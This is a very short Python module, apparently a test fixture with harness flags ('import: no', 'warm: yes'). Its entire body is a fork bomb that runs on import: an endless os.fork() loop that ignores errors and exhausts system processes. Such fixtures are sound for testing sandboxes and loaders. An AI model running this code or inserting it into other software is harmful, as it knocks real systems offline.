# SPDX-License-Identifier: MIT
"""Its import forks without end."""
# import: no
# warm: yes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
